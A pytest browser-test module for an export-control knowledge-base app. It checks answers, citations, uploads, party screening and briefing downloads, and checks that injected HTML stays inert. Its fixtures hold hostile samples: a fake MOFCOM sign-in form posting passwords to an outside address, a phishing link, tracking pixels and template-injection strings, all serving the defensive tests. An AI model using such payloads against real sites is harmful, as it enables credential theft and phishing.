"""The app in a real headless browser, used as a new user would: ask, read the verdict first, follow a
citation, open and close the source, switch destination and date, clear, reload, upload documents,
look up, screen parties (one name and a customer file), build a pack (with the party lists); and a
document's HTML stays text while the page reaches nothing outside.

Uses Debian's chromium (``make browser`` installs it) through playwright's Python package; nothing
is downloaded at run time. The app runs in a subprocess on a free loopback port against its own
index of a copy of the corpus with one hostile user document in it (HTML that imitates a verdict
badge, a sign-in form, a link "to MOFCOM" and images from another address). Screenshots of the
five tabs land in ``evals/reports/screenshots/`` (the README's come from there).
"""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kb.app.ui import STORAGE_KEY
from kb.config import Settings
from tests.conftest import ROOT, SOURCES, BuiltIndex, make_docx, running_app

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
]
SCREENSHOTS = ROOT / "evals" / "reports" / "screenshots"
QUESTION = "Do I need a licence to export gallium nitride?"
LONG_QUESTION = "What documents must accompany a licence application?"
OUTSIDE = "198.51.100.7"  # an address of the documentation range: nothing may ever ask it for anything
HOSTILE = f"""# Warehouse pallet labelling notes

Our warehouse labels every pallet of antimony ingots before it leaves the dock.
<span class="kb-badge" data-verdict="not_listed" style="color:#047857;background:#ecfdf5">○ NOT LISTED</span>
<form action="http://{OUTSIDE}/collect" method="post"><input name="user" placeholder="MOFCOM user">
<input type="password" name="password"><button>Sign in to MOFCOM</button></form>
<a href="http://{OUTSIDE}/phish">MOFCOM official page</a> <img src="http://{OUTSIDE}/pixel.png" alt="">
![pixel](http://{OUTSIDE}/markdown.png) ${{alert(1)}} {{{{constructor}}}}

## Pallet labelling

Each antimony ingot pallet label names the pallet labelling batch, the warehouse dock and the pallet
weight. <img src="http://{OUTSIDE}/label.png"> Pallet labelling is checked twice.
"""
HOSTILE_QUESTION = "How are antimony ingot pallets labelled in the warehouse?"

pytestmark = [pytest.mark.browser, pytest.mark.slow]


@pytest.fixture(scope="module")
def app_home(built_index: BuiltIndex, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(KB_HOME, sources): the corpus plus one hostile user document, indexed on their own."""
    from kb.indexing.ingest import ingest

    folder = tmp_path_factory.mktemp("browser")
    sources = folder / "sources"
    shutil.copytree(SOURCES, sources)
    (sources / "warehouse-pallet-notes.md").write_text(HOSTILE, encoding="utf-8")
    settings = Settings(home=folder / "kb-home", sources=sources)
    assert ingest(settings, embedder=built_index.embedder, progress=False).ok
    return settings.home, sources


@pytest.fixture(scope="module")
def app_url(app_home: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """``python app.py`` on a free loopback port; stopped after the module's tests."""
    if not CHROMIUM.exists():
        pytest.skip("/usr/bin/chromium is absent: `make browser` installs it (apt-get install chromium)")
    pytest.importorskip("playwright.sync_api", reason="playwright's Python package is not installed")
    home, sources = app_home
    log = tmp_path_factory.mktemp("browser-log") / "app.log"
    with running_app(home, log, KB_SOURCES=str(sources)) as url:
        yield url


@pytest.fixture(scope="module")
def browser(app_url: str) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def context(browser: Any) -> Iterator[Any]:
    """One browser profile for the module: its storage keeps the conversations across reloads."""
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
    yield context
    context.close()


@pytest.fixture(scope="module")
def page(context: Any, app_url: str) -> Iterator[Any]:
    page = context.new_page()
    page.set_default_timeout(60_000)
    outside: list[str] = []
    errors: list[str] = []
    page.on("request", lambda r: outside.append(r.url) if not _local(r.url) else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    response = page.goto(app_url, wait_until="load")  # never "networkidle": Gradio keeps a connection open
    assert response is not None and "default-src 'self'" in response.headers["content-security-policy"]
    assert response.headers["x-frame-options"] == "DENY"
    _loaded(page)
    yield page
    assert outside == [], f"the page reached outside the machine: {outside}"
    assert errors == [], f"scripts failed on the page: {errors}"


def _loaded(page: Any) -> None:
    """Wait for the page and its start-up events (restoring the conversations, the coverage note)."""
    page.wait_for_selector("#kb-question textarea")
    page.wait_for_function("document.querySelector('#kb-coverage').innerText.includes('Coverage')")


def _local(url: str) -> bool:
    return url.startswith(("http://127.0.0.1", "data:", "blob:", "about:"))


def _ask(page: Any, question: str) -> Any:
    """Ask and wait for the answer and for the browser to have saved it; returns the new turn."""
    before = page.locator("#kb-transcript .kb-turn").count()
    saved = page.evaluate(f"localStorage.getItem({STORAGE_KEY!r})")
    page.fill("#kb-question textarea", question)
    page.click("#kb-ask")
    page.wait_for_function(
        f"document.querySelectorAll('#kb-transcript .kb-turn').length === {before + 1}"
        " && !document.querySelector('#kb-transcript .kb-a-pending')"
    )
    page.wait_for_function(f"localStorage.getItem({STORAGE_KEY!r}) !== {json.dumps(saved)}")
    return page.locator(f"#kb-turn-{before}")


def _rect(page: Any, selector: str) -> dict[str, float]:
    return dict(page.evaluate(f"document.querySelector({selector!r}).getBoundingClientRect().toJSON()"))


def _in_view(page: Any, selector: str) -> bool:
    """Whether the element is wholly inside the window and inside the transcript's visible area."""
    item, box = _rect(page, selector), _rect(page, "#kb-transcript .kb-transcript")
    height = page.evaluate("window.innerHeight")
    return bool(box["top"] <= item["top"] and item["bottom"] <= box["bottom"] and item["bottom"] <= height)


def _choose_destination(page: Any, label: str) -> None:
    page.locator("#kb-destination input").click()
    page.click(f'#kb-destination li[aria-label="{label}"]')


def test_ask_shows_a_cited_verdict_and_its_source(page: Any, app_home: tuple[Path, Path]) -> None:
    turn = _ask(page, QUESTION)
    badge = page.wait_for_selector("#kb-badge .kb-badge[data-verdict]")
    assert (
        badge.get_attribute("data-verdict") == "licence_required" and "LICENCE REQUIRED" in badge.inner_text()
    )
    assert turn.locator(".kb-badge[data-verdict='licence_required']").count() == 1
    text = turn.inner_text()
    assert "needs a dual-use export licence from MOFCOM" in text and "[1]" in text
    assert "Sources:" not in text and "status on" not in text  # the sources are in the panel only
    link = page.wait_for_selector("#kb-citations .kb-cite a.kb-link")
    assert (link.get_attribute("href") or "").startswith("http")
    assert page.locator("#kb-citations .kb-cite").first.get_attribute("data-doc") == "mofcom-gac-2023-23"
    page.wait_for_timeout(300)
    page.screenshot(path=str(SCREENSHOTS / "chat.png"))

    page.locator("#kb-citations .kb-cite .kb-cite-title").first.click()
    page.wait_for_selector("#kb-source .kb-viewer")
    page.wait_for_timeout(300)
    title = _rect(page, "#kb-viewer-title")
    hit = _rect(page, "#kb-source #kb-hit")
    body = _rect(page, "#kb-source .kb-viewer-body")
    assert title["top"] >= 0 and "MOFCOM & GAC Announcement No. 23 of 2023" in page.inner_text(
        "#kb-viewer-title"
    )
    assert body["top"] <= hit["top"] < body["bottom"], "the cited part is not scrolled into view"
    assert "Gallium nitride" in page.inner_text("#kb-source #kb-hit")
    page.screenshot(path=str(SCREENSHOTS / "source.png"))
    page.click("#kb-source .kb-viewer-close")
    page.wait_for_selector("#kb-source .kb-viewer", state="detached")
    page.locator("#kb-citations button.kb-open").first.click()
    page.wait_for_selector("#kb-source .kb-viewer")
    page.keyboard.press("Escape")
    page.wait_for_selector("#kb-source .kb-viewer", state="detached")

    page.fill("#kb-comment textarea", "clear and cited")
    page.click("#kb-up")
    page.wait_for_function("document.querySelector('#kb-feedback-status').innerText.includes('recorded')")
    home, _ = app_home
    (record,) = [json.loads(line) for line in (home / "feedback.jsonl").read_text().splitlines()]
    assert (record["question"], record["rating"], record["comment"]) == (QUESTION, "up", "clear and cited")
    assert record["verdict"] == "licence_required" and record["citations"]


def test_a_long_answer_keeps_its_verdict_and_first_sentence_in_view(page: Any) -> None:
    for _ in range(2):
        turn = _ask(page, LONG_QUESTION)
        number = turn.get_attribute("data-turn")
        assert _in_view(page, f"#kb-turn-{number} .kb-badge"), "the verdict badge is off screen"
        assert _in_view(page, f"#kb-turn-{number} .kb-lead"), "the answer's first sentence is off screen"
    overflow = page.evaluate(
        "(() => { const b = document.querySelector('#kb-transcript .kb-transcript');"
        " return b.scrollHeight > b.clientHeight; })()"
    )
    assert overflow, "the conversation fits the box: the test did not make a long one"


def test_clicking_a_citation_number_highlights_its_card(page: Any) -> None:
    newest = page.locator("#kb-transcript .kb-turn").last
    newest.locator("a.kb-ref[data-n='2']").first.click()
    page.wait_for_selector("#kb-citations .kb-cite-active")
    assert page.eval_on_selector_all(
        "#kb-citations .kb-cite-active", "cards => cards.map(c => c.dataset.n)"
    ) == ["2"]
    card = _rect(page, "#kb-citations #kb-cite-2")
    assert 0 <= card["top"] < page.evaluate("window.innerHeight")
    first = page.locator("#kb-turn-0 a.kb-ref[data-n='1']").first  # an earlier answer's [1]
    first.click()
    page.wait_for_function("document.querySelector('#kb-citations .kb-cites').dataset.turn === '0'")
    page.wait_for_selector("#kb-citations #kb-cite-1.kb-cite-active")
    assert "gallium nitride" in page.inner_text("#kb-citations").lower()


def test_the_destination_the_question_names_wins_over_the_control(page: Any) -> None:
    _choose_destination(page, "United States (US)")
    turn = _ask(page, "Can metallic gallium be exported to a Japanese military user?")
    notice = turn.locator(".kb-notice").inner_text()
    assert "Answered for Japan (JP), the destination your question names, not United States (US)" in notice
    assert turn.locator(".kb-badge").get_attribute("data-verdict") == "prohibited"
    assert "destination JP" in turn.inner_text() and "destination JP" in page.inner_text("#kb-badge")
    _choose_destination(page, "Any destination")


def test_a_date_that_does_not_parse_shows_a_message(page: Any) -> None:
    today = page.input_value("#kb-as-of input")
    page.fill("#kb-as-of input", "2024/13/45")
    page.press("#kb-as-of input", "Enter")
    page.wait_for_function("document.querySelector('#kb-date-message').innerText.includes('is not a date')")
    assert "there is no month 13" in page.inner_text("#kb-date-message")
    turn = _ask(page, "Is gallium oxide controlled?")
    assert "is not a date" in turn.inner_text() and turn.locator(".kb-badge").count() == 0
    page.fill("#kb-as-of input", "15 March 2025")
    page.press("#kb-as-of input", "Enter")
    page.wait_for_function("document.querySelector('#kb-as-of input').value === '2025-03-15'")
    assert "Read “15 March 2025” as 2025-03-15." in page.inner_text("#kb-date-message")
    page.click("#kb-day-forward")
    page.wait_for_function("document.querySelector('#kb-as-of input').value === '2025-03-16'")
    page.click("#kb-day-back")
    page.click("#kb-day-back")
    page.wait_for_function("document.querySelector('#kb-as-of input').value === '2025-03-14'")
    page.click("#kb-day-today")
    page.wait_for_function(f"document.querySelector('#kb-as-of input').value === {today!r}")


def test_document_html_is_shown_as_text(page: Any, context: Any) -> None:
    turn = _ask(page, HOSTILE_QUESTION)
    assert "Warehouse pallet labelling notes" in turn.inner_text()
    page.locator("#kb-citations .kb-cite[data-doc='warehouse-pallet-notes'] .kb-cite-title").first.click()
    page.wait_for_selector("#kb-source .kb-viewer")
    for area in ("#kb-transcript", "#kb-citations", "#kb-source"):
        assert (
            page.locator(f"{area} form, {area} input, {area} img, {area} a[href*='{OUTSIDE}']").count() == 0
        )
        assert page.locator(f"{area} .kb-badge[data-verdict='not_listed']").count() == 0
    assert "<form action=" in turn.inner_text()  # the markup is there to read, as text
    assert "your own document" in page.inner_text("#kb-source")
    page.click("#kb-source .kb-viewer-close")
    # The page's policy refuses what escaping would have let through, should any ever slip past
    # (probed in a page of its own: the module's page must not have asked anything outside).
    probe = context.new_page()
    probe.goto(page.url, wait_until="load")
    blocked = probe.evaluate(
        f"""() => new Promise((done) => {{
          document.addEventListener('securitypolicyviolation', (e) => done(e.blockedURI), {{once: true}});
          const img = document.createElement('img');
          img.src = 'http://{OUTSIDE}/injected.png';
          document.body.appendChild(img);
          setTimeout(() => done(null), 3000);
        }})"""
    )
    probe.close()
    assert blocked and OUTSIDE in blocked
    with page.expect_download() as download:
        page.click("#kb-export")
    exported = Path(download.value.path()).read_text(encoding="utf-8")
    assert f"## 1. {QUESTION}" in exported and "[1] MOFCOM & GAC Announcement No. 23 of 2023" in exported
    assert "<img" not in exported and "<form" not in exported


def test_clear_resets_the_badge_the_sources_and_the_viewer(page: Any) -> None:
    page.locator("#kb-citations .kb-cite .kb-cite-title").first.click()
    page.wait_for_selector("#kb-source .kb-viewer")
    page.click("#kb-clear")
    page.wait_for_selector("#kb-transcript .kb-empty")
    page.wait_for_selector("#kb-source .kb-viewer", state="detached")
    assert page.inner_text("#kb-badge").strip() == ""
    assert page.locator("#kb-citations .kb-cite").count() == 0
    assert "Sources of the answer appear here" in page.inner_text("#kb-citations")


def test_a_reload_keeps_the_conversations(page: Any) -> None:
    _ask(page, "Is germanium dioxide subject to export control?")
    page.reload(wait_until="load")
    _loaded(page)
    page.wait_for_selector("#kb-transcript .kb-turn")
    assert page.locator("#kb-transcript .kb-turn").count() == 1
    assert "Is germanium dioxide subject to export control?" in page.inner_text("#kb-transcript")
    assert page.locator("#kb-citations .kb-cite").count() > 0  # the panel shows its sources again
    page.locator("#kb-conversations input").click()
    options = page.locator("#kb-conversations li[role='option']")
    assert options.count() == 2
    page.locator("#kb-conversations li[role='option']", has_text=QUESTION).click()
    page.wait_for_function(f"document.querySelector('#kb-transcript').innerText.includes({QUESTION!r})")
    assert page.locator("#kb-transcript .kb-turn").count() >= 6


def test_documents_upload_list_search_and_a_corrupt_file(page: Any, tmp_path: Path) -> None:
    page.get_by_role("tab", name="Documents").click()
    page.wait_for_function("document.querySelector('#kb-documents-table').innerText.includes('official')")
    guide = make_docx(tmp_path / "Molybdenum shipping guide.docx")
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.4\nnot really a PDF")
    odd = tmp_path / "odd-title.md"
    odd.write_text(f'# <img src="http://{OUTSIDE}/title.png"> Odd title\n\nSome text.\n', encoding="utf-8")
    page.set_input_files("#kb-upload input[type=file]", [str(guide), str(broken), str(odd)])
    page.wait_for_function("document.querySelector('#kb-upload-status').innerText.includes('Not added')")
    status = page.inner_text("#kb-upload-status")
    assert "Added to your own documents: Molybdenum shipping guide.docx" in status
    assert "broken.pdf: cannot parse: not a readable PDF" in status and str(tmp_path) not in status
    page.wait_for_function(
        "document.querySelector('#kb-documents-table').innerText.includes('Molybdenum shipping guide')"
    )
    table = page.inner_text("#kb-documents-table")
    assert "your own" in table and "broken" not in table and "Odd title" in table
    assert page.locator("#kb-documents-table img, #kb-upload-status img").count() == 0
    page.wait_for_timeout(300)
    page.screenshot(path=str(SCREENSHOTS / "documents.png"))
    page.fill("#kb-doc-query textarea, #kb-doc-query input", "keep the licence number on the invoice")
    page.click("#kb-doc-search")
    page.wait_for_selector("#kb-doc-hits .kb-hit-card")
    first = page.locator("#kb-doc-hits .kb-hit-card").first
    assert "your own" in first.inner_text() and "Molybdenum shipping guide" in first.inner_text()
    first.locator("button.kb-open").click()
    page.wait_for_selector("#kb-source .kb-viewer")
    assert "your own document" in page.inner_text("#kb-source")
    page.click("#kb-source .kb-viewer-close")
    page.get_by_role("tab", name="Ask").click()  # the app keeps serving after the bad file
    turn = _ask(page, "Is gallium oxide controlled?")
    assert turn.locator(".kb-badge").get_attribute("data-verdict") == "licence_required"


def test_lookup_colours_verdicts_says_why_and_downloads_csv(page: Any) -> None:
    page.get_by_role("tab", name="Lookup").click()
    page.fill("#kb-lookup-query textarea, #kb-lookup-query input", "copper")
    page.click("#kb-lookup-search")
    page.wait_for_function(
        "document.querySelector('#kb-lookup-note').innerText.includes(\"matching 'copper'\")"
    )
    table = page.inner_text("#kb-lookup-table")
    assert "“copper” appears in" in table and "Why it matched" in table
    page.wait_for_timeout(300)
    page.screenshot(path=str(SCREENSHOTS / "lookup.png"))
    page.fill("#kb-lookup-query textarea, #kb-lookup-query input", "2850001901")
    page.click("#kb-lookup-search")
    page.wait_for_function(
        "document.querySelector('#kb-lookup-note').innerText.includes(\"matching '2850001901'\")"
    )
    table = page.inner_text("#kb-lookup-table")
    assert "Gallium nitride" in table and "3C001.b" in table and "lists HS code 2850001901" in table
    colours = page.eval_on_selector_all(
        "#kb-lookup-table span",
        "spans => spans.filter(s => s.textContent.trim() === 'licence required')"
        ".map(s => getComputedStyle(s).color)",
    )
    assert "rgb(180, 83, 9)" in colours, f"the verdict is not coloured: {colours}"
    with page.expect_download() as download:
        page.click("#kb-lookup-csv")
    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
    assert text.startswith("Family,Item,名称,Verdict,Note,Why it matched") and "2850001901" in text


def test_briefing_pack_downloads_with_links(page: Any) -> None:
    page.get_by_role("tab", name="Briefing").click()
    page.click("#kb-brief-build")
    page.wait_for_selector("#kb-brief-docx", state="visible")
    assert "Export-control briefing: gallium" in page.locator("#kb-brief-preview").inner_text()
    page.screenshot(path=str(SCREENSHOTS / "briefing.png"))
    with page.expect_download() as docx_download:
        page.click("#kb-brief-docx")
    assert docx_download.value.suggested_filename.endswith(".docx")
    data = Path(docx_download.value.path()).read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert 'TargetMode="External"' in archive.read("word/_rels/document.xml.rels").decode()
    with page.expect_download() as md_download:
        page.click("#kb-brief-md")
    assert "## Items, codes and verdicts on" in Path(md_download.value.path()).read_text(encoding="utf-8")


def _screen(page: Any, name: str) -> Any:
    page.fill("#kb-screen-name textarea, #kb-screen-name input", name)
    page.click("#kb-screen-go")
    page.wait_for_function(
        "document.querySelector('#kb-screen-results .kb-screen-outcome b')?.innerText === " + json.dumps(name)
    )
    return page.locator("#kb-screen-results")


def test_the_verdict_card_shows_the_listed_buyer(page: Any) -> None:
    page.get_by_role("tab", name="Ask").click()
    turn = _ask(page, "Can I export samarium magnets to MP Materials?")
    assert turn.locator(".kb-badge").get_attribute("data-verdict") == "prohibited"
    for card in (turn.locator(".kb-verdict"), page.locator("#kb-badge")):
        party = card.locator(".kb-party[data-match='listed']")
        assert party.count() == 1 and party.get_attribute("data-state") == "listed"
        text = party.inner_text()
        assert "MP Materials Corp. (芒廷帕斯材料公司, US)" in text and "LISTED" in text
        assert "MOFCOM's export-control control list · MOFCOM Announcement No. 23 of 2026" in text
        assert "listed since 2026-06-22" in text


def test_screening_a_listed_name_a_similar_name_and_a_customer_file(page: Any, tmp_path: Path) -> None:
    page.get_by_role("tab", name="Screening").click()
    results = _screen(page, "MP Materials")
    outcome = results.locator(".kb-screen-outcome")
    assert outcome.get_attribute("data-outcome") == "listed" and "as of" in outcome.inner_text()
    card = results.locator(".kb-party-card").first
    assert card.get_attribute("data-match") == "listed"
    text = card.inner_text()
    for said in ("MP Materials Corp. (芒廷帕斯材料公司, US)", "MOFCOM's export-control control list",
                 "MOFCOM Announcement No. 23 of 2026", "issued 2026-06-22, effective 2026-06-22",
                 "listed since 2026-06-22", "Exporters may not export dual-use items",
                 "the same name as the listed alias 'MP Materials' (score 100)"):  # fmt: skip
        assert said in text, said
    card.locator("button.kb-open").click()
    page.wait_for_selector("#kb-source .kb-viewer")
    assert "MOFCOM Announcement No. 23 of 2026" in page.inner_text("#kb-viewer-title")
    assert "Parties" in page.inner_text("#kb-source #kb-hit")
    page.click("#kb-source .kb-viewer-close")

    results = _screen(page, "MP Materails Corp")
    assert results.locator(".kb-screen-outcome").get_attribute("data-outcome") == "possible_match"
    assert "possible match — check" in results.inner_text().lower()
    assert results.locator(".kb-party-card[data-match='listed']").count() == 0
    assert results.locator(".kb-party-card[data-match='possible']").count() >= 1

    results = _screen(page, "Acme Widgets GmbH")
    assert "not found on the lists held" in results.inner_text() and "not a clearance" in results.inner_text()

    customers = tmp_path / "customers.csv"
    customers.write_text(
        "customer,country\nMP Materials,US\nMP Materails Corp,\nAcme Widgets GmbH,DE\n,US\n"
        f'"<img src=""http://{OUTSIDE}/x.png"">",\n',
        encoding="utf-8",
    )
    page.fill("#kb-screen-column textarea, #kb-screen-column input", "customer")
    page.set_input_files("#kb-screen-csv input[type=file]", str(customers))
    page.wait_for_function("document.querySelector('#kb-screen-status').innerText.includes('Screened')")
    status = page.inner_text("#kb-screen-status")
    assert "Screened 4 of 5 rows of customers.csv" in status and "1 listed, 1 possible match" in status
    assert "2 not found on the lists held" in status
    assert "line 5: no name" in status and str(tmp_path) not in status
    page.wait_for_selector("#kb-screen-report", state="visible")
    table = page.inner_text("#kb-screen-table")
    assert "possible match — check" in table and "not found on the lists held" in table
    assert f'<img src="http://{OUTSIDE}/x.png">' in table  # a name made of markup is shown as text
    assert page.locator("#kb-screen-status img, #kb-screen-table img").count() == 0
    _screen(page, "MP Materials")  # the picture shows a listed party above the file's report
    page.wait_for_timeout(300)
    page.screenshot(path=str(SCREENSHOTS / "screening.png"), full_page=True)  # the name and the file
    with page.expect_download() as download:
        page.click("#kb-screen-report")
    name = download.value.suggested_filename
    assert name.startswith("customers-screened-") and name.endswith(".csv")
    report = Path(download.value.path()).read_text(encoding="utf-8-sig").splitlines()
    assert report[0].startswith("line,name,country,outcome,score,party")
    assert report[1].startswith("2,MP Materials,US,listed,100,MP Materials Corp.")
    assert f"Report: {name}" in page.inner_text("#kb-screen-status")
    page.click("#kb-screen-file")  # screening the file again gives another download of its own
    page.wait_for_function(
        f"document.querySelector('#kb-screen-status').innerText.includes('Report: ')"
        f" && !document.querySelector('#kb-screen-status').innerText.includes({name!r})"
    )
    with page.expect_download() as again:
        page.click("#kb-screen-report")
    assert (
        again.value.suggested_filename != name
        and f"Report: {again.value.suggested_filename}" in page.inner_text("#kb-screen-status")
    )


def test_a_briefing_pack_with_the_party_lists(page: Any) -> None:
    page.get_by_role("tab", name="Briefing").click()
    page.locator("#kb-brief-parties input").check()
    page.click("#kb-brief-build")
    page.wait_for_function("document.querySelector('#kb-brief-preview').innerText.includes('Party lists on')")
    with page.expect_download() as md_download:
        page.click("#kb-brief-md")
    text = Path(md_download.value.path()).read_text(encoding="utf-8")
    assert "## Party lists on" in text and "| MOFCOM control list | MP Materials Corp." in text
    assert md_download.value.suggested_filename.startswith("briefing-gallium-and-parties-")
